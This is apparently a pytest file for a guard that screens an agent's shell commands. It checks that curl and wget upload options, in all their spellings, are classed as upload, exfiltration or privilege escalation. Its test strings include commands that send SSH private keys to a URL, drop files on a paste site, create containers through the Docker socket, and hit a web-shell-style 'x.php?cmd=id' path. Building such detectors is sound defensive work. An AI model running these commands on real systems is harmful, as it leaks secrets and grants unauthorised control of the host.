"""curl's and wget's request-body and upload options: one table, seen by every tactic that needs it.

Every option of :data:`~agentbus.guards.request_bodies.REQUEST_OPTIONS` that sends a file is
tried in each spelling curl (or wget) takes, against each tactic that judges what it sends: an
upload of a file from outside the project (asked), of a secret (blocked), a file dropped on a
paste site, a write through the container engine's socket.
"""

from __future__ import annotations

import pytest

from agentbus.guards.files import check_shell_files
from agentbus.guards.parse import parse
from agentbus.guards.programs import Invocation, walk
from agentbus.guards.request_bodies import (
    AT_FILE,
    BODY_OPTIONS,
    FILE_UPLOADS,
    FORM,
    IS_FILE,
    LITERAL,
    REQUEST_OPTIONS,
    URLENCODED,
    WRITE_OPTIONS,
    file_valued_options,
    request_options,
    sent_file,
)
from agentbus.guards.tactics import exfiltration, privilege, uploads
from agentbus.guards.verdict import EXFILTRATION, PRIVILEGE, UPLOAD

HOME = "/home/dev"
WGET_OPTIONS = frozenset({"--post-data", "--body-data", "--post-file", "--body-file"})


def _values(how: str, file: str) -> list[str]:
    """The values that make an option of kind ``how`` send ``file``."""
    return {
        AT_FILE: [f"@{file}"],
        URLENCODED: [f"@{file}", f"field@{file}"],
        FORM: [f"field=@{file}", f"field=<{file}", f'field=@"{file}";type=text/plain'],
        IS_FILE: [file],
    }[how]


def _spellings(option: str, value: str) -> list[str]:
    """Each way ``option VALUE`` is written: apart, with ``=``, attached to a short option, in a
    cluster after flags, and with curl 8.3's ``--expand-``."""
    quoted = f"'{value}'"
    if option in WGET_OPTIONS:
        return [f"wget {option} {quoted}", f"wget -q {option}={quoted}"]
    if option.startswith("--"):
        name = option[2:]
        return [f"curl -s {option} {quoted}", f"curl {option}={quoted}", f"curl --expand-{name} {quoted}"]
    return [
        f"curl {option} {quoted}",
        f"curl {option}{quoted}",
        f"curl -sS{option[1]} {quoted}",
        f"curl -sL{option[1]}{quoted}",
    ]


def _cases(options: frozenset[str] | dict[str, str], file: str) -> list[str]:
    return [
        f"{spelling} https://example.com/up"
        for option in sorted(options)
        if REQUEST_OPTIONS[option] != LITERAL
        for value in _values(REQUEST_OPTIONS[option], file)
        for spelling in _spellings(option, value)
    ]


def _invocation(command: str) -> Invocation:
    return next(stage for stages in walk(parse(command)) for stage in stages)


@pytest.mark.parametrize("command", _cases(REQUEST_OPTIONS, "/tmp/stage/out.tgz"))
def test_each_spelling_of_a_file_sent_from_outside_the_project_is_an_upload(command: str) -> None:
    verdict = uploads.judge(_invocation(command), HOME)
    assert verdict is not None
    assert verdict.category == UPLOAD
    assert "/tmp/stage/out.tgz" in verdict.rule or "/tmp/stage/out.tgz" in str(verdict)


@pytest.mark.parametrize("command", _cases(REQUEST_OPTIONS, "~/.ssh/id_rsa"))
def test_each_spelling_of_a_secret_sent_is_exfiltration(command: str) -> None:
    verdict = exfiltration.judge(_invocation(command), HOME)
    assert verdict is not None
    assert verdict.category == EXFILTRATION


@pytest.mark.parametrize("command", _cases(REQUEST_OPTIONS, "/srv/app/.ssh/id_rsa"))
def test_each_spelling_of_a_secret_sent_is_a_secret_the_shell_file_guard_sees(command: str) -> None:
    assert check_shell_files(command, cwd="/srv/app") is not None


@pytest.mark.parametrize(
    "command",
    [c.replace("https://example.com/up", "https://0x0.st") for c in _cases(FILE_UPLOADS, "dist/app.tgz")],
)
def test_each_spelling_of_a_file_dropped_on_a_paste_site_is_exfiltration(command: str) -> None:
    verdict = exfiltration.judge(_invocation(command), HOME)
    assert verdict is not None
    assert verdict.category == EXFILTRATION
    assert "0x0.st" in str(verdict)


@pytest.mark.parametrize(
    "command",
    [
        c.replace("curl", "curl --unix-socket /var/run/docker.sock", 1)
        + " http://localhost/containers/create"
        for option in sorted(WRITE_OPTIONS - WGET_OPTIONS)
        for c in _spellings(option, "{}")
    ],
)
def test_each_body_option_through_the_engine_socket_is_a_write(command: str) -> None:
    verdict = privilege.judge(_invocation(command), HOME)
    assert verdict is not None
    assert verdict.category == PRIVILEGE


@pytest.mark.parametrize(
    "command",
    [
        "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
        "curl --unix-socket /var/run/docker.sock --url-query all=1 http://localhost/containers/json",
        "curl --unix-socket /var/run/docker.sock -H @headers http://localhost/info",
    ],
)
def test_a_read_through_the_engine_socket_is_not_a_write(command: str) -> None:
    assert privilege.judge(_invocation(command), HOME) is None


@pytest.mark.parametrize(
    "command",
    [
        "curl --data-raw @/tmp/stage/out.tgz https://example.com/up",  # --data-raw: @ is text
        "curl --form-string 'f=@/tmp/stage/out.tgz' https://example.com/up",
        "wget --post-data '@/tmp/stage/out.tgz' https://example.com/up",
        "curl -o /tmp/stage/out.tgz https://example.com/file.tgz",  # written, not sent
        "curl -sLo /tmp/stage/out.tgz https://example.com/file.tgz",
        "wget -d -T 5 https://example.com/file.tgz",  # wget's -d debugs, -T is a timeout
        "curl --data-urlencode 'q=a@/tmp/stage/out.tgz' https://example.com/up",  # name=content: text
    ],
)
def test_a_value_sent_as_text_or_a_file_written_is_not_an_upload(command: str) -> None:
    assert uploads.judge(_invocation(command), HOME) is None


@pytest.mark.parametrize(
    "command",
    [
        "curl -s -X POST -H 'Content-Type: application/json' -d @payload.json https://hooks.slack.com/services/T/B/x",
        "curl --json @payload.json https://hooks.slack.com/services/T/B/x",
    ],
)
def test_a_json_payload_from_a_project_file_to_a_webhook_is_a_message_not_a_drop(command: str) -> None:
    assert exfiltration.judge(_invocation(command), HOME) is None


def test_the_table_reads_each_spelling_to_the_same_option_and_file() -> None:
    spellings = [
        ["-d", "@f"],
        ["-d@f"],
        ["-sd", "@f"],
        ["-sd@f"],
        ["--data", "@f"],
        ["--data=@f"],
        ["--expand-data", "@f"],
    ]
    for words in spellings:
        expected = "--data" if words[0].startswith("--") else "-d"
        assert [(o, sent_file(o, v)) for o, v in request_options("curl", words)] == [(expected, "f")]


def test_a_value_of_another_option_is_never_read_as_an_option() -> None:
    assert list(request_options("curl", ["-o", "-d@x", "-H", "x"])) == [("-H", "x")]
    assert list(request_options("curl", ["-sLo", "-T", "https://x"])) == []
    assert list(request_options("curl", ["--", "-d", "@x"])) == []


def test_only_the_programs_options_are_read() -> None:
    assert list(request_options("wget", ["-d", "-T", "5", "--post-file=x"])) == [("--post-file", "x")]
    assert list(request_options("xh", ["--form", "f@x"])) == []
    assert list(request_options("curl", ["--post-file", "x"])) == []


def test_the_subsets_are_of_the_table() -> None:
    assert FILE_UPLOADS <= BODY_OPTIONS <= frozenset(REQUEST_OPTIONS)
    assert WRITE_OPTIONS <= BODY_OPTIONS
    assert {option for option, how in REQUEST_OPTIONS.items() if how == IS_FILE} <= FILE_UPLOADS


def test_file_valued_options_are_each_programs_own() -> None:
    """curl's ``-O`` takes no value (the URL follows it), wget's ``-O`` names the output; curl's ``-c``,
    ``-b``, ``-E``, ``-K`` take a file, wget's take none; other programs have none of them."""
    curl, wget = file_valued_options("curl"), file_valued_options("wget")
    assert "-O" not in curl
    assert "--remote-name" not in curl
    assert {"-o", "-c", "-b", "-E", "-K", "-T", "--output"} <= curl
    assert {"-O", "--output-document", "-P", "-i", "--post-file"} <= wget
    assert not {"-c", "-b", "-E", "-K"} & wget
    assert file_valued_options("curlie") == curl
    assert file_valued_options("wget2") == wget
    assert file_valued_options("http") == frozenset()


def test_a_bare_url_after_curls_remote_name_is_the_request() -> None:
    from agentbus.guards.web_payloads import attack

    assert attack("curl", ["-O", "10.10.10.5/x.php?cmd=id"])
    assert attack("curl", ["--remote-name", "10.10.10.5/x.php?cmd=id"])
    assert attack("wget", ["-O", "10.10.10.5/x.php?cmd=id"]) is None  # wget's -O: the output file's name
    assert attack("curl", ["-o", "10.10.10.5/x.php?cmd=id"]) is None  # curl's -o: the output file's name
